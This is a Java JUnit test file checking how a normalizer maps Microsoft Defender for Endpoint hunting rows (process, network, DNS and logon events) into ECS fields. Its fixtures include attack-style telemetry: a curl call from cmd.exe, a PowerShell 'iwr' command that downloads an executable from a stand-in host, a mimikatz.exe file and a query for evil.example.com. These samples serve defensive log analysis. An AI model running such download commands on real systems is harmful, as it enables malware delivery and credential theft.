package org.huntindex.normalize;

import static org.huntindex.normalize.NormalizerTest.json;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Instant;
import java.util.List;
import org.huntindex.schema.Field;
import org.junit.jupiter.api.Test;

/** Defender for Endpoint's advanced hunting rows in ECS names. */
class DefenderMapperTest {
  private final Normalizer normalizer = new Normalizer();


  @Test
  void aProcessStartAndItsConnectionShareAnEntityId() {
    Event start = normalizer.normalize(json("Timestamp", "2024-05-01T10:00:00.1234567Z", "DeviceId", "d1a2",
        "DeviceName", "ws1.corp.local", "ActionType", "ProcessCreated", "FileName", "cmd.exe",
        "FolderPath", "C:\\Windows\\System32\\cmd.exe", "ProcessCommandLine", "cmd.exe /c curl http://8.8.4.4/a",
        "ProcessId", 4242L, "ProcessCreationTime", "2024-05-01T10:00:00.1200000Z", "AccountDomain", "corp",
        "AccountName", "alice", "InitiatingProcessFileName", "explorer.exe", "InitiatingProcessId", 900L,
        "InitiatingProcessCreationTime", "2024-05-01T08:00:00Z", "SHA256", "abc", "ReportId", 17L));
    assertEquals("defender", start.string(Field.INPUT_TYPE));
    assertEquals(Ticks.of(Instant.parse("2024-05-01T10:00:00.1234567Z")), start.number(Field.TIMESTAMP));
    assertEquals("ws1.corp.local", start.string(Field.HOST_NAME));
    assertEquals("windows", start.string(Field.HOST_OS_TYPE));
    assertEquals(List.of("process"), start.all(Field.EVENT_CATEGORY));
    assertEquals(List.of("start"), start.all(Field.EVENT_TYPE));
    assertEquals("cmd.exe", start.string(Field.PROCESS_NAME));
    assertEquals("cmd.exe /c curl http://8.8.4.4/a", start.string(Field.PROCESS_COMMAND_LINE));
    assertEquals(4242L, start.number(Field.PROCESS_PID));
    assertEquals("explorer.exe", start.string(Field.PARENT_NAME));
    assertEquals("alice", start.string(Field.USER_NAME));
    Event connection = normalizer.normalize(json("Timestamp", "2024-05-01T10:00:01Z", "DeviceId", "d1a2",
        "DeviceName", "ws1.corp.local", "ActionType", "ConnectionSuccess", "RemoteIP", "8.8.4.4", "RemotePort", 80L,
        "RemoteUrl", "dns.google", "LocalIP", "10.0.0.5", "LocalPort", 50123L, "Protocol", "Tcp",
        "InitiatingProcessFileName", "cmd.exe", "InitiatingProcessFolderPath", "c:\\windows\\system32\\cmd.exe",
        "InitiatingProcessId", 4242L, "InitiatingProcessCreationTime", "2024-05-01T10:00:00.12Z"));
    assertEquals(List.of("network"), connection.all(Field.EVENT_CATEGORY));
    assertEquals("8.8.4.4", connection.string(Field.DESTINATION_IP));
    assertEquals(80L, connection.number(Field.DESTINATION_PORT));
    assertEquals("tcp", connection.string(Field.NETWORK_TRANSPORT));
    assertEquals("egress", connection.string(Field.NETWORK_DIRECTION));
    assertEquals("cmd.exe", connection.string(Field.PROCESS_NAME));
    assertEquals(start.string(Field.PROCESS_ENTITY_ID), connection.string(Field.PROCESS_ENTITY_ID));
    assertEquals("d1a2|4242|2024-05-01T10:00:00.1200000Z", start.string(Field.PROCESS_ENTITY_ID));
    // the same process id started at another time is another process
    Event reused = normalizer.normalize(json("Timestamp", "2024-05-02T10:00:01Z", "DeviceId", "d1a2",
        "DeviceName", "ws1", "ActionType", "ConnectionSuccess", "RemoteIP", "8.8.4.4",
        "InitiatingProcessFileName", "cmd.exe", "InitiatingProcessId", 4242L,
        "InitiatingProcessCreationTime", "2024-05-02T09:00:00Z"));
    assertTrue(!start.string(Field.PROCESS_ENTITY_ID).equals(reused.string(Field.PROCESS_ENTITY_ID)));
  }

  @Test
  void aDnsQueryIsANetworkEventOfItsProcessNamingTheQuery() {
    Event query = normalizer.normalize(json("Timestamp", "2024-05-01T10:00:02Z", "DeviceId", "d1a2",
        "DeviceName", "ws1", "ActionType", "DnsQueryResponse", "InitiatingProcessFileName", "cmd.exe",
        "InitiatingProcessId", 4242L, "InitiatingProcessCreationTime", "2024-05-01T10:00:00.12Z",
        "AdditionalFields", "{\"DnsQueryString\":\"evil.example.com\",\"DnsQueryResult\":[{\"DnsQueryType\":1}]}"));
    assertEquals(List.of("network"), query.all(Field.EVENT_CATEGORY));
    assertEquals(List.of("connection", "protocol", "info"), query.all(Field.EVENT_TYPE));
    assertEquals("dns", query.string(Field.NETWORK_PROTOCOL));
    assertEquals("evil.example.com", query.string(Field.DNS_QUESTION_NAME));
    assertNull(query.get(Field.DESTINATION_IP));
    assertNull(query.get(Field.NETWORK_DIRECTION));
    assertEquals("cmd.exe", query.string(Field.PROCESS_NAME));
    assertEquals("d1a2|4242|2024-05-01T10:00:00.1200000Z", query.string(Field.PROCESS_ENTITY_ID));
    // the text stays whole, and its top-level values become fields of their own
    assertTrue(NormalizerTest.hasRaw(query, "AdditionalFields.DnsQueryString", "evil.example.com"));
    assertTrue(NormalizerTest.hasRaw(query, "AdditionalFields",
        "{\"DnsQueryString\":\"evil.example.com\",\"DnsQueryResult\":[{\"DnsQueryType\":1}]}"));
    // a JSON export may hold the column as an object, which the reader flattens
    Event object = normalizer.normalize(json("Timestamp", "2024-05-01T10:00:02Z", "DeviceName", "ws1",
        "ActionType", "DnsQueryResponse", "InitiatingProcessFileName", "cmd.exe",
        "AdditionalFields.DnsQueryString", "wpad"));
    assertEquals("wpad", object.string(Field.DNS_QUESTION_NAME));
  }

  @Test
  void anInspectedDnsConnectionNamesItsQuery() {
    Event e = normalizer.normalize(json("Timestamp", "2024-05-01T10:00:02Z", "DeviceName", "ws1",
        "ActionType", "DnsConnectionInspected", "RemoteIP", "8.8.8.8", "RemotePort", 53L,
        "InitiatingProcessFileName", "cmd.exe", "AdditionalFields", "{\"direction\":\"Out\",\"query\":\"localhost\"}"));
    assertEquals("8.8.8.8", e.string(Field.DESTINATION_IP));
    assertEquals("localhost", e.string(Field.DNS_QUESTION_NAME));
    assertEquals(List.of("connection"), e.all(Field.EVENT_TYPE));
    // another action's AdditionalFields name no query
    Event other = normalizer.normalize(json("Timestamp", "2024-05-01T10:00:02Z", "DeviceName", "ws1",
        "ActionType", "ConnectionSuccess", "RemoteIP", "8.8.8.8", "AdditionalFields", "{\"query\":\"x.example\"}"));
    assertNull(other.get(Field.DNS_QUESTION_NAME));
    assertTrue(NormalizerTest.hasRaw(other, "AdditionalFields.query", "x.example"));
  }

  @Test
  void additionalFieldsThatAreNoObjectStayText() {
    for (String text : List.of("not json", "[1,2]", "{\"a\":", "{\"a\":" + "[".repeat(5000))) {
      Event e = normalizer.normalize(json("Timestamp", "2024-05-01T10:00:02Z", "DeviceName", "ws1",
          "ActionType", "DnsQueryResponse", "AdditionalFields", text));
      assertTrue(NormalizerTest.hasRaw(e, "AdditionalFields", text), text);
      assertNull(e.get(Field.DNS_QUESTION_NAME), text);
    }
  }

  @Test
  void otherRowsNameTheirInitiatingProcessAndKeepTheirColumns() {
    Event e = normalizer.normalize(json("Timestamp", "2024-05-01T10:00:00Z", "DeviceId", "d1a2", "DeviceName", "ws1",
        "ActionType", "FileCreated", "FileName", "mimikatz.exe", "FolderPath", "C:\\Users\\alice\\mimikatz.exe",
        "InitiatingProcessFileName", "powershell.exe",
        "InitiatingProcessFolderPath", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "InitiatingProcessCommandLine", "powershell -c iwr http://x/m.exe -o m.exe", "InitiatingProcessId", 77L,
        "InitiatingProcessCreationTime", "2024-05-01T09:59:00Z", "InitiatingProcessAccountName", "alice"));
    assertEquals("FileCreated", e.string(Field.EVENT_ACTION));
    assertNull(e.get(Field.EVENT_CATEGORY));
    assertEquals("powershell.exe", e.string(Field.PROCESS_NAME));
    assertEquals("powershell -c iwr http://x/m.exe -o m.exe", e.string(Field.PROCESS_COMMAND_LINE));
    assertEquals(77L, e.number(Field.PROCESS_PID));
    assertEquals("alice", e.string(Field.USER_NAME));
    assertEquals("d1a2|77|2024-05-01T09:59:00.0000000Z", e.string(Field.PROCESS_ENTITY_ID));
    assertEquals("windows", e.string(Field.HOST_OS_TYPE));
    // the file is the row's own, not a process's
    assertTrue(NormalizerTest.hasRaw(e, "FileName", "mimikatz.exe"));
    assertTrue(NormalizerTest.hasRaw(e, "FolderPath", "C:\\Users\\alice\\mimikatz.exe"));
  }

  @Test
  void aLogonIsAnAuthenticationOfItsAccountFromItsRemoteAddress() {
    Event e = normalizer.normalize(json("Timestamp", "2024-05-01T10:00:00Z", "DeviceId", "d1a2", "DeviceName", "ws1",
        "ActionType", "LogonSuccess", "LogonType", "RemoteInteractive", "AccountName", "alice", "AccountDomain", "corp",
        "RemoteIP", "203.0.113.9", "RemotePort", 51000L, "InitiatingProcessFileName", "lsass.exe",
        "InitiatingProcessFolderPath", "c:\\windows\\system32\\lsass.exe", "InitiatingProcessAccountName", "system",
        "InitiatingProcessId", 700L, "InitiatingProcessCreationTime", "2024-05-01T08:00:00Z"));
    assertEquals(List.of("authentication"), e.all(Field.EVENT_CATEGORY));
    assertEquals("success", e.string(Field.EVENT_OUTCOME));
    assertEquals("alice", e.string(Field.USER_NAME));
    assertEquals("corp", e.string(Field.USER_DOMAIN));
    assertEquals("203.0.113.9", e.string(Field.SOURCE_IP));
    assertEquals(51000L, e.number(Field.SOURCE_PORT));
    assertNull(e.get(Field.DESTINATION_IP), "a logon is no connection of its process");
    assertEquals("lsass.exe", e.string(Field.PROCESS_NAME));
    assertTrue(NormalizerTest.hasRaw(e, "InitiatingProcessAccountName", "system"));
    assertTrue(NormalizerTest.hasRaw(e, "LogonType", "RemoteInteractive"));
    Event failed = normalizer.normalize(json("Timestamp", "2024-05-01T10:00:00Z", "DeviceName", "ws1",
        "ActionType", "LogonFailed", "AccountName", "admin", "RemoteIP", "203.0.113.9"));
    assertEquals("failure", failed.string(Field.EVENT_OUTCOME));
    assertEquals("admin", failed.string(Field.USER_NAME));
  }

  @Test
  void otherActionsKeepTheirTimeDeviceAndColumns() {
    Event e = normalizer.normalize(json("Timestamp", "2024-05-01T10:00:00Z", "DeviceName", "ws1",
        "ActionType", "AntivirusDetection", "FileName", "mimikatz.exe"));
    assertEquals("AntivirusDetection", e.string(Field.EVENT_ACTION));
    assertNull(e.get(Field.PROCESS_NAME));
    assertNull(e.get(Field.PROCESS_ENTITY_ID));
    assertNull(e.get(Field.EVENT_CATEGORY));
    assertTrue(NormalizerTest.hasRaw(e, "FileName", "mimikatz.exe"));
  }
}
